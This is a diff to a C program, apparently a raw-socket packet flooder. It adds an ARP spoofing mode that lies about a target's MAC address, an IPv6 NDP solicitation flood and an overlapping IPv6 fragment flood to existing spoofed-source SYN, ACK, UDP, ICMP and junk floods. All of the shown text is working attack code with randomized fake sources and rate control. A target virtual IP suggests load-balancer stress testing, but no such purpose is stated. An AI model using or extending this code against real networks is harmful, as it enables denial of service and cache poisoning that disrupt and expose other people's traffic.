@@ -1,6 +1,8 @@
 /*
  * A flood of one kind of frame, from sources that do not exist: flood DEVICE DST-MAC KIND TARGET VIP FRAMES/S SECONDS
- * (FRAMES/S 0: as many as there can be). KIND: syn ack udp fragment arp icmp ttl junk. Prints how many were sent.
+ * (FRAMES/S 0: as many as there can be). KIND: syn ack udp fragment arp spoof icmp ttl junk; ndp and fragment6, whose
+ * TARGET and VIP are IPv6. TARGET is who is asked for (arp, ndp), whose MAC is lied about (spoof), where packets at TTL 1
+ * go. Prints how many were sent.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -14,7 +16,9 @@
 #include <time.h>
 #include <unistd.h>
 
-enum { BATCH = 64, FRAME = 96 };
+enum { BATCH = 64, FRAME = 112 };
+
+static uint8_t target6[16], vip6[16];
 
 static uint64_t state = 0x9e3779b97f4a7c15ull;
 
@@ -68,6 +72,26 @@ static void seal(uint8_t *ip, uint8_t *at, int length, int field) {
   put16(at + field, fold(sum(at, length) + sum(ip + 12, 8) + ip[9] + (uint32_t)length));
 }
 
+/* IPv6 from a stranger of fd99::/16, or of the target's own network. */
+static uint8_t *ip6(uint8_t *ip, const uint8_t *near, const uint8_t *to, int next, int payload) {
+  memset(ip, 0, 40);
+  ip[0] = 0x60;
+  put16(ip + 4, (unsigned)payload);
+  ip[6] = (uint8_t)next;
+  ip[7] = 255;
+  if (near != 0) memcpy(ip + 8, near, 8);
+  else put16(ip + 8, 0xfd99), put32(ip + 10, any());
+  put32(ip + 16, any());
+  put32(ip + 20, any());
+  memcpy(ip + 24, to, 16);
+  return ip + 40;
+}
+
+static void seal6(uint8_t *ip, uint8_t *at, int length, int field, int protocol) {
+  put16(at + field, 0);
+  put16(at + field, fold(sum(at, length) + sum(ip + 8, 32) + (uint32_t)protocol + (uint32_t)length));
+}
+
 static int make(uint8_t *frame, const char *kind, uint32_t target, uint32_t vip) {
   uint8_t *ip = frame + 14;
   put16(frame + 12, 0x0800);
@@ -75,9 +99,34 @@ static int make(uint8_t *frame, const char *kind, uint32_t target, uint32_t vip)
     put16(frame + 12, 0x88b5);
     return 60;
   }
-  if (!strcmp(kind, "arp")) {
+  if (!strcmp(kind, "ndp")) {
+    put16(frame + 12, 0x86dd);
+    uint8_t *icmp = ip6(ip, target6, target6, 58, 32);
+    memset(icmp, 0, 32);
+    icmp[0] = 135;
+    memcpy(icmp + 8, target6, 16);
+    icmp[24] = icmp[25] = 1;
+    icmp[26] = 2;
+    put32(icmp + 28, any());
+    seal6(ip, icmp, 32, 2, 58);
+    return 14 + 40 + 32;
+  }
+  if (!strcmp(kind, "fragment6")) {
+    put16(frame + 12, 0x86dd);
+    uint8_t *part = ip6(ip, 0, vip6, 44, 40);
+    memset(part, 0, 40);
+    part[0] = 17;
+    put16(part + 2, 1);
+    put32(part + 4, any());
+    put16(part + 8, 1024 + any() % 60000);
+    put16(part + 10, 7000);
+    put16(part + 12, 1000);
+    return 14 + 40 + 40;
+  }
+  if (!strcmp(kind, "arp") || !strcmp(kind, "spoof")) {
     static const uint8_t head[8] = {0, 1, 8, 0, 6, 4, 0, 1};
-    uint32_t sender = (target & 0xffffff00u) | (128 + any() % 120);
+    int lies = kind[0] == 's';
+    uint32_t sender = lies ? target : (target & 0xffffff00u) | (128 + any() % 120);
     put16(frame + 12, 0x0806);
     memcpy(ip, head, 8);
     ip[8] = 2;
@@ -146,6 +195,8 @@ int main(int count, char **words) {
     fprintf(stderr, "flood: no such device or MAC\n");
     return 2;
   }
+  inet_pton(AF_INET6, words[4], target6);
+  inet_pton(AF_INET6, words[5], vip6);
   uint32_t target = ntohl(inet_addr(words[4]));
   uint32_t vip = ntohl(inet_addr(words[5]));
   double rate = atof(words[6]);
